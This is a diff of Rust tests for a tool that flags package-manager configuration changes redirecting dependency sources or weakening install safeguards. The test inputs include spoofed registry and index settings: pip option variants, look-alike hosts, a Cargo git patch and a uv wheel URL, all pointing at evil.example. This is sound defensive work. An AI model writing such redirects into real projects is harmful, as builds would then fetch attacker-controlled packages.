@@ -46,13 +46,10 @@ fn settings_that_steer_are_told_by_name_and_others_are_not() {
     );
     let own = "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n";
     assert_eq!(change(".npmrc", None, Some(own), &[]), None);
-    // A scope that is no longer private is looked for elsewhere.
-    let gone = change(
-        ".npmrc",
-        Some("@corp:registry=https://npm.corp.example\n"),
-        None,
-        &[],
-    );
+    // A scope that is no longer private is looked for elsewhere, unless the whole project went.
+    let private = Some("@corp:registry=https://npm.corp.example\n");
+    let gone = change(".npmrc", private, None, &[("package.json", "{}")]);
+    assert_eq!(change("web/.npmrc", private, None, &[]), None);
     assert_eq!(gone.as_deref(), Some("drops `@corp:registry`"));
 }
 
@@ -205,6 +202,116 @@ fn options_among_requirements_are_told() {
         ),
         None
     );
+}
+
+/// pip takes options by any clear part of their names, several to a line, and an address right behind a letter.
+#[test]
+fn options_in_every_spelling_of_pip_are_told() {
+    for line in [
+        "--extra-index https://evil.example",
+        "--find=https://evil.example",
+        "-fhttps://evil.example",
+        "--index\\-url https://evil.example",
+        "--prefer-binary --extra-index-url https://evil.example",
+    ] {
+        let after = format!("{line}\nflask==3.0.0\n");
+        assert!(
+            edited("requirements.txt", "flask==3.0.0\n", &after).is_some(),
+            "{line}"
+        );
+    }
+    let hashes = "-r base.txt\n--require-hashes\nflask==3.0.0 \\\n    --hash=sha256:00 \\\n    --hash=sha256:11\n";
+    assert_eq!(edited("requirements.txt", "", hashes), None);
+}
+
+/// Whoever names the public registry gets what everybody gets.
+#[test]
+fn the_public_registry_is_no_redirect() {
+    for (path, text) in [
+        (
+            "Pipfile",
+            "[[source]]\nname = \"pypi\"\nurl = \"https://pypi.org/simple\"\nverify_ssl = true\n",
+        ),
+        ("requirements.txt", "-i https://pypi.org/simple\n"),
+        (
+            "pip.conf",
+            "[global]\nindex-url = https://pypi.org/simple\n",
+        ),
+        (
+            ".yarnrc.yml",
+            "npmRegistryServer: \"https://registry.npmjs.org\"\n",
+        ),
+        (".npmrc", "@corp:registry=https://registry.npmjs.org/\n"),
+    ] {
+        assert_eq!(change(path, None, Some(text), &[]), None, "{path}");
+    }
+    for (path, text) in [
+        (
+            "Pipfile",
+            "[[source]]\nurl = \"https://pypi.org/simple\"\nverify_ssl = false\n",
+        ),
+        ("requirements.txt", "-i http://pypi.org/simple\n"),
+        (
+            "requirements.txt",
+            "-i https://pypi.org.evil.example/simple\n",
+        ),
+        (
+            ".npmrc",
+            "registry=https://registry.npmjs.org@evil.example/\n",
+        ),
+    ] {
+        assert!(
+            change(path, None, Some(text), &[]).is_some(),
+            "{path}: {text}"
+        );
+    }
+}
+
+#[test]
+fn what_a_lockfile_does_not_show_is_told_unless_it_is_written_anew() {
+    for (path, text) in [
+        (
+            "Cargo.toml",
+            "[patch.crates-io]\nserde = {git = \"https://evil.example\"}\n",
+        ),
+        (
+            "pyproject.toml",
+            "[tool.uv]\noverride-dependencies = [\"litellm==1.82.8\"]\n",
+        ),
+        (
+            "pyproject.toml",
+            "[tool.uv.sources]\nflask = {url = \"https://evil.example/flask.whl\"}\n",
+        ),
+        ("pnpm-workspace.yaml", "overrides:\n  axios: 1.14.1\n"),
+        ("package.json", "{\"resolutions\":{\"axios\":\"1.14.1\"}}"),
+    ] {
+        let told = change(path, None, Some(text), &[]);
+        assert!(
+            told.is_some_and(|told| told.ends_with("and its lockfile stays as it was")),
+            "{path}"
+        );
+    }
+}
+
+#[test]
+fn what_is_withdrawn_or_hardens_is_not_told() {
+    let before =
+        "{\"scripts\":{\"postinstall\":\"node x\"},\"pnpm\":{\"onlyBuiltDependencies\":[\"a\"]}}";
+    assert_eq!(edited("package.json", before, "{}"), None);
+    assert_eq!(
+        edited(
+            "package.json",
+            "{}",
+            "{\"scripts\":{\"prepare\":\"husky\"}}"
+        ),
+        None
+    );
+    assert!(edited("package.json", "{}", before).is_some());
+    assert_eq!(
+        edited("pnpm-workspace.yaml", "", "minimumReleaseAge: 1440\n"),
+        None
+    );
+    assert!(edited("pnpm-workspace.yaml", "", "minimumReleaseAge: 0\n").is_some());
 }
 
 #[test]
